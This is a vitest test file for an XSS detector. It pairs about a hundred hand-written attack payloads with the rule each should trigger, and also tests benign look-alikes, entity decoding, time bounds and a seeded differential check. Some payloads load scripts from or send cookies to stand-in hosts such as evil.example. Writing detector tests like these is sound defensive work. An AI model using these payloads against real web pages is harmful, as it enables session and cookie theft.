import { describe, expect, it } from 'vitest';
import { scanContexts, scanContextsExhaustive } from './contexts.js';
import { compact, compactAll, decode, decodeEveryChar } from './decode.js';
import type { Detection } from '../types.js';
import { scanExhaustive, xss } from './index.js';

// Hand-written examples only (the corpus in /work/shared is for measuring, not for tests).

describe('xss: attacks are recognised', () => {
  it.each([
    ['<script>alert(1)</script>', 'script-tag'],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'script-tag'],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>', 'script-tag'],
    ['<iframe src="//evil.example">', 'iframe-tag'],
    ['<object data="x.swf"></object>', 'object-tag'],
    ['<embed src=x.swf>', 'embed-tag'],
    ['<base href="//evil.example/">', 'base-tag'],
    ['<img src=x onerror=alert(1)>', 'event-handler'],
    ['<svg/onload=confirm(document.domain)>', 'event-handler'],
    ['<details open ontoggle="fetch(\'//e.example\')">', 'event-handler'],
    ['<my-widget onpointerenter=steal()>hi</my-widget>', 'event-handler'],
    ['<body onload\x0c=go()>', 'event-handler'],
    ['<a href="javascript:alert(document.cookie)">win</a>', 'script-url'],
    ['<a href="  JaVa\tScRiPt:top.go()">x</a>', 'script-url'],
    ['<a href="&#106;&#x61;vascript&colon;go()">x</a>', 'script-url'],
    ['<a href="&#0000106avascript:go()">x</a>', 'script-url'],
    ['<form><button formaction="//evil.example">go</button></form>', 'active-attribute'],
    ['<iframe srcdoc="&lt;b&gt;hi">', 'srcdoc'],
    ['<p style="width: expression(go())">', 'css-script'],
    ['<p style="x:ex/**/pression(go())">', 'css-script'],
    ['<p style="x:expression\\28go()\\29">', 'css-script'],
    ['<a href="data:text/html;base64,PGI+aGk8L2I+">x</a>', 'data-url'],
    ['"><svg onload=go()>', 'event-handler'],
    ['" onmouseover="go()', 'attribute-breakout'],
    ["' autofocus onfocus='go()", 'attribute-breakout'],
    ['x" type=image src=y onerror=go() "', 'attribute-breakout'],
    ['javascript:go(1)', 'script-url'],
    ['vbscript:msgbox(1)', 'script-url'],
    ["';go(1)//", 'js-string-breakout'],
    ['"-go(1)-"', 'js-string-breakout'],
    ["\\';top['al'+'ert'](1);//", 'js-string-breakout'],
    ['</script><script>go()</script>', 'script-tag'],
    ['</script>', 'closing-tag-breakout'],
    ['${alert(document.domain)}', 'template-injection'],
    ["{{constructor.constructor('go()')()}}", 'template-injection'],
    ['<!--<img src="--><img src=x onerror=go()//">', 'event-handler'],
    ['<![CDATA[<]]>script>go()<![CDATA[<]]>/script>', 'script-tag'],
    ['\\u003cimg src=x onerror=go()\\u003e', 'event-handler'],
    ['\\x3cscript\\x3ego()\\x3c/script\\x3e', 'script-tag'],
    ['&amp;lt;script&amp;gt;go()', 'script-tag'],
    ['<scr\0ipt>go()</scr\0ipt>', 'script-tag'],
    ['<animate attributeName=onbegin to=go() />', 'active-attribute'],
    ['<?import namespace="t" implementation="#default#x">', 'xml-instruction'],
    ['\uff1cscript\uff1ego()\uff1c/script\uff1e', 'script-tag'],
    ['+ADw-script+AD4-go()+ADw-/script+AD4-', 'script-tag'],
    ['q=x;onfocus=go(1)', 'event-handler'],
    ['"autofocus/onfocus=go()//', 'attribute-breakout'],
    ['onerror=go;throw 1', 'event-handler'],
    ["'}go(1);{'", 'js-string-breakout'],
    ["';document.location='//evil.example/?'+document.cookie;//", 'js-string-breakout'],
    ['expression(go())', 'css-script'],
    ['[].map.call`${go}1`', 'tagged-template-call'],
    ['(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]', 'jsfuck'],
    ['&{go(1)};', 'js-entity'],
    ['x=x:url(javascript', 'css-script'],
    ['STYLE=X:URL(JAVASCRIPT', 'css-script'],
    ['<div style="binding: url(http://x.example/k.html)">', 'css-script'],
    ['<p style="background:url(\'javascript\')">', 'css-script'],
    ["'formaction=//x.example", 'attribute-breakout'],
    ['top["al"+"ert"](1)', 'js-global-access'],
    ['(self)[/*x*/"document"]', 'js-global-access'],
    ['document /*a*/ . /*b*/ domain', 'js-global-access'],
    ['setTimeout (code, 9)', 'script-sink-call'],
    ['eval(atob(x))', 'script-sink-call'],
    ['new Function(x)', 'script-sink-call'],
    ['alert()', 'script-sink-call'],
    ['ja&tab;vascript: ', 'obfuscated-script-url'],
    ['java\nscript:', 'obfuscated-script-url'],
    ['" srcdoc=x', 'attribute-breakout'],
    // Handler names up to 50 letters, and a bare handler probe with an empty or quoted value.
    ['"onmozfullscreenerrorwithaverylongname=go()', 'attribute-breakout'],
    ['  onpointerrawupdate= ', 'event-handler'],
    [' onfocus="', 'event-handler'],
    ['/onanimationiteration=', 'event-handler'],
    // Script URLs whose body opens with an escape; data: URLs carrying markup or a call.
    ['javascript:\\x67o()', 'script-url'],
    ['JavaScript: \\\\u0067o', 'script-url'],
    ['data:,<b>hi</b>', 'data-url'],
    [' data : , <svg/onload=go()>', 'event-handler'],
    ['data:text/plain,go(1)', 'data-url'],
    // The page's secrets read as values, DOM writes, HTML sinks.
    ['document.domain', 'dom-property'],
    ['print(top.location)', 'dom-property'],
    ["'+document.cookie+'", 'dom-property'],
    ['Window . Location', 'dom-property'],
    ['document.getElementById("x").innerText = "owned"', 'dom-write'],
    ['window.open(url).opener.name="x"', 'dom-write'],
    ['el.innerHTML = payload', 'dom-sink'],
    ['x.insertAdjacentHTML("beforeend", y)', 'dom-sink'],
    ['document.writeln(x)', 'dom-sink'],
    // JSFuck's primitives, with `+` already read as a space by a form decoder.
    ['[!![]]', 'jsfuck'],
    ['x=!+[]', 'jsfuck'],
    ['(! [] [])', 'jsfuck'],
    // Tags spelled with ¼ and ¾ (US-ASCII reading), raw or JS-escaped.
    ['\u00bcb\u00beboom\u00bc/b\u00be', 'us-ascii-markup'],
    ['\\xbcspan class=x\\xbehi\\xbc/span\\xbe', 'us-ascii-markup'],
    // UTF-7 with no other punctuation; an empty namespace prefix; XML Events handlers.
    ['+ADw-script+AD4-', 'script-tag'],
    ['<:vmlframe src=x.vml>', 'vmlframe-tag'],
    ['<x ev:event="load" ev:handler="#run"/>', 'active-attribute'],
    ['<listener event="click" handler="#go"/>', 'active-attribute'],
  ])('%j → %s', (payload, reason) => {
    const d = xss.detect(payload);
    expect(d, payload).toBeDefined();
    expect(d?.reason).toBe(reason);
    expect(d?.detector).toBe('xss');
    expect(d!.confidence).toBeGreaterThanOrEqual(0.5);
    expect(d!.confidence).toBeLessThanOrEqual(1);
    expect(d!.fragment.length).toBeLessThanOrEqual(64);
  });
});

/** A finding that counts at paranoia level 1, the default. */
const atLevel1 = (value: string): Detection | undefined => {
  const d = xss.detect(value);
  return d && (d.paranoia ?? 1) === 1 ? d : undefined;
};

describe('xss: benign look-alikes pass (at paranoia level 1)', () => {
  it.each([
    'I <3 you',
    'a < b and c > d',
    'x<y',
    '<= 5',
    'if (a <b) {}',
    // Decided: plain formatting tags without handlers or script URLs are not XSS at paranoia level 1.
    'use the <b> tag',
    '<p>Hello <i>world</i>, see <a href="https://example.org/docs">the docs</a></p>',
    '<img src="https://cdn.example/cat.png" alt="a cat">',
    'email me at a@b.com',
    'function names like onload in prose',
    'the onclick handler fires once',
    'price > 10 <cheap>',
    '😀 🎉 <3',
    '2<3>1',
    'https://example.org/search?q=cats&page=2',
    'call foo(bar) then baz()',
    'regular expression (regex) tutorial',
    "it's fine; really (mostly)",
    "O'Brien, Dublin",
    'JavaScript: The Good Parts',
    'javascript:void(0)',
    'javascript:;',
    'Price: $5 {each}',
    'Hello ${name}',
    "l'onboarding=fini",
    'onsale=yes',
    'expression (math) editor',
    "It's a 'test' - run(1)",
    'see s.src = "//cdn.example/x.js" in the docs',
    'tom & jerry &amp; friends',
    '{"a":"b","c":[1,2]}',
    'SELECT * FROM t WHERE a <> b',
    'background: url(data:image/png;base64,iVBORw0KGgo=)',
    'background: url(/img/javascript-logo.png)',
    'please confirm (yes/no)',
    'Java Script: the good parts',
    'java\nscript is fun',
    'course eval (final)',
    'Alert (high): disk full',
    'evaluate(x) then report',
    'my document.pdf, 5 * 3 = 15',
    'a new function (beta)',
    'self-service [beta]',
    'see the formaction attribute in the HTML spec',
    'the srcdoc= attribute',
    '<span style="font-binding: none">',
    '<META',
    '<svg:svg',
    '',
    // Look-alikes of the newer rules.
    'v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV',
    'set onload= in your config',
    'the onload event',
    'JavaScript: a guide \\ part 2',
    'data: 12, 14, 16',
    'my.domain.com',
    'your document location is /home/docs',
    'document.cookie.indexOf("x=") >= 0',
    'document.cookie = "seen=1; path=/"',
    'window.analytics.track',
    'document.pdf',
    'innerhtml is a property',
    'Wow!! [link]',
    '![](https://example.org/cat.png)',
    'Great! [] empty list',
    'Done! [ ] next',
    '¼ cup sugar, ¾ cup flour',
    'a --> b --> c',
    '<!-- a comment -->',
    'step 1 -> step 2',
  ])('%j', (value) => {
    expect(atLevel1(value)).toBeUndefined();
  });
});

describe('xss: look-alikes of the level-2 rules pass at every level', () => {
  it.each(['a --> b --> c', '<!-- a comment -->', 'step 1 -> step 2', '<b>bold</b> --> next', 'Great! [] empty list', 'v1=51onabcd=6yJV'])('%j', (value) => {
    expect(xss.detect(value)).toBeUndefined();
  });
});

describe('xss: paranoia levels', () => {
  it.each([
    ['-->', 'comment-breakout', 2],
    ['"-->', 'comment-breakout', 2],
    ['--><b>', 'comment-breakout', 2],
    ['<noscript#', 'active-tag-name', 2],
    ['<a href="page2.html">next</a>', 'markup-url-attribute', 3],
    ['<img src="/cat.png">', 'markup-url-attribute', 3],
  ])('%j → %s at paranoia %i', (payload, reason, level) => {
    const d = xss.detect(payload);
    expect(d?.reason).toBe(reason);
    expect(d?.paranoia).toBe(level);
  });
  it('a level-1 finding wins over a stronger level-2 one', () => {
    const d = xss.detect('--> <img src=x onerror=go()>');
    expect(d?.reason).toBe('event-handler');
    expect(d?.paranoia).toBeUndefined();
  });
  it('level-1 findings carry no paranoia field', () => {
    expect(xss.detect('<script>go()</script>')?.paranoia).toBeUndefined();
  });
});

describe('xss: decoding', () => {
  it('decodes named, decimal, hex references, with and without semicolons', () => {
    expect(decode('&lt;a&gt;&#60;&#x3C;&#0060&colon;&Tab;')).toBe('<a><<<:\t');
  });
  it('decodes JS escapes', () => {
    expect(decode('\\u003c\\x3c\\u{3c}')).toBe('<<<');
  });
  it('decodes at most two layers', () => {
    expect(decode('&amp;amp;lt;')).toBe('&lt;');
  });
  it('leaves unknown references and lone backslashes alone', () => {
    expect(decode('&bogus; \\q \\u12 &#;')).toBe('&bogus; \\q \\u12 &#;');
  });
  it('compacts whitespace, controls, CSS comments and CSS escapes', () => {
    expect(compact('ja va\tscript:')).toBe('javascript:');
    expect(compact('ex/* c */pression\\28')).toBe('expression(');
    expect(compact('unterminated /* comment')).toBe('unterminated');
  });
});

describe('xss: bounded work', () => {
  const huge = (unit: string): string => unit.repeat(Math.ceil((1 << 20) / unit.length));
  it.each([
    ['many tag openers', '<a '],
    ['unclosed quotes', '<a x="'],
    ['handler-like words', 'ononon'],
    ['quotes and operators', "';"],
    ['template openers', '${a'],
    ['entities', '&#x3c;'],
    ['escapes', '\\u003c'],
    ['comments', '/*'],
    ['breakout prefix', '" x=y'],
    ['glued attribute names', '"abcdefghij'],
    ['separated attribute names', '" ab=c/'],
    ['DOM calls', 'document.x('],
    ['nested argument lists', 'document.x((a)'],
    ['quarter signs', '\u00bca\u00be'],
    ['negated arrays', '!+[]'],
    ['comment closers', '-->'],
  ])('1 MiB of %s finishes quickly', (_name, unit) => {
    const input = huge(unit);
    const timed = (): number => {
      const t0 = performance.now();
      xss.detect(input);
      return performance.now() - t0;
    };
    // A second try only when the first was slow: a loaded machine can stall one run, while
    // super-linear work on 1 MiB takes far longer than the bound every time.
    const first = timed();
    expect(first < 1500 ? first : Math.min(first, timed())).toBeLessThan(1500);
  });
  it('still finds an attack at the end of a large benign value', () => {
    expect(xss.detect(`${'lorem ipsum '.repeat(50_000)}<img src=x onerror=go()>`)?.reason).toBe('event-handler');
  });
});

describe('xss: the shortcuts never change a verdict', () => {
  it('masks, shared gates, the flat-form and decoding shortcuts agree with the reference paths (seeded differential test)', () => {
    // Seeded mix of every rule's anchors (quotes, `=`, handlers, schemes, CSS, template and JS syntax, entities,
    // JS and CSS escapes, whitespace and comments that the flat form drops) and of query-string and prose text.
    const pieces = [
      '"', "'", '`', '=', '==', '(', ')', '()', ';', ':', '$', '${', '{', '}', '{{', '.', '[', ']', '[]', '/', '//', '/*', '*/', '*', '\\', ',',
      '!', '!!', '!+', '&', '&{', '-', '-->', '<!--', '>', '<', '+', '%', '?', '#', ' ', '\t', '\n', '\u00ad', '\u00bc', '\u00be', '\0',
      'on', 'onload', 'onerror=', 'onfocus', 'formaction', 'srcdoc', 'javascript', 'javascript:', 'vbscript:', 'mocha:', 'java script:',
      'data:', 'data:text/html', 'data:,', 'application/javascript', 'expression', 'expression(', 'behavior:url(', 'url(', '-moz-binding',
      'document', 'window', 'self', 'top', 'cookie', 'domain', 'location', 'innerhtml', 'insertadjacenthtml', 'write', 'alert', 'eval',
      'settimeout', 'new function', 'constructor', '$eval', 'call', 'apply', 'new', 'void', 'void(0)', 'go', 'x.y', 'a', 'b2',
      '&amp;', '&lt;', '&#106;', '&#x3a;', '&colon;', '&tab;', '&pv_id=', '\\u003c', '\\x3c', '\\3a', '\\28', '\\', '<img', '<b>',
      '<a href=', '<svg', '</script>', 'https://e.example/p?q=1&r=2', 'sdk_version=3.0.0', '%3D', 'the', 'and', 'is',
      "';", "'+", '"-', "')", '}', 'x.y=', 'a.b.c =', "top['x']=", 'go(1)', 'a(b)', 'x`1`', "'//", '-"',
    ];
    // Shapes of every rule (written here), which the generator joins to pieces and then edits (drops,
    // replaces or doubles a few characters): a shortcut that wrongly needs a character shows as a diff.
    const shapes = [
      '" onmouseover="go()', "' x=y onfocus=", '"/formaction=//x', 'q=x;onfocus=go(1)', 'onerror=go;throw 1', 'javascript:go(1)',
      '=vbscript:a.b', 'data:text/html;base64,x', '(data:application/javascript,x', 'x:expression(go())', "{behavior:url(x)",
      'a:url(javascript', 'expression(go())', "';go(1)//", '"-go(1)-"', "'}go(1);{'", "';document.location='//x'+document.cookie;//",
      "';x.y='a'//", '${alert(1)}', '{{constructor.x}}', '[].map.call`${go}1`', '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]',
      'window["alert"](1)', 'self[/*x*/"document"]', 'document /*x*/ .cookie', 'alert(1)', 'new function(x)', ' onload= ', ' onfocus="',
      'javascript:\\u0061lert(1)', 'data:,<svg onload=go()>', 'data:,alert(1)', 'alert(document.domain)', "'+document.cookie",
      'document.queryselector("p").textcontent="x"', 'x.innerhtml = y', 'el.insertadjacenthtml(a)', 'document.write(x)', '!![]', '! []',
      '\u00bcscript\u00bego()\u00bc/script\u00be', '&{go(1)};', '"-->', ' --><', 'ja\tvascript:go()', 'x:ex/**/pression(go())',
      'x:expression\\28go()\\29', 'java\\3a script:go(1)',
    ];
    // mulberry32: the low bits of a power-of-two LCG repeat too soon to mix pieces and edits well.
    let seed = 20260512;
    const rand = (n: number): number => {
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) % n;
    };
    const punct = '"\'`=();:${}.[]/*\\,!&-><+ \t';
    const edit = (v: string): string => {
      const at = rand(v.length + 1);
      const op = rand(3);
      if (op === 0) return v.slice(0, at) + v.slice(at + 1);
      if (op === 1) return v.slice(0, at) + punct[rand(punct.length)]! + v.slice(at + 1);
      return v.slice(0, at) + v.slice(at, at + 1) + v.slice(at);
    };
    let fired = 0;
    let contextsFired = 0;
    for (let n = 0; n < 6000; n++) {
      const len = 1 + rand(6);
      const parts: string[] = [];
      for (let k = 0; k < len; k++) parts.push(rand(3) === 0 ? shapes[rand(shapes.length)]! : pieces[rand(pieces.length)]!);
      let value = parts.join(rand(3) === 0 ? ' ' : '');
      for (let e = rand(4); e > 0; e--) value = edit(value);
      const reference = scanExhaustive(value);
      if (reference) fired++;
      expect(xss.detect(value), value).toEqual(reference);
      const text = value.toLowerCase();
      const contexts = scanContextsExhaustive(text);
      if (contexts) contextsFired++;
      expect(scanContexts(text), text).toEqual(contexts);
      expect(compact(value), value).toBe(compactAll(value));
      expect(decode(value), value).toBe(decodeEveryChar(value));
    }
    // The generator must reach the rules, or the comparison proves nothing.
    expect(fired).toBeGreaterThan(2000);
    expect(contextsFired).toBeGreaterThan(1000);
  });
});
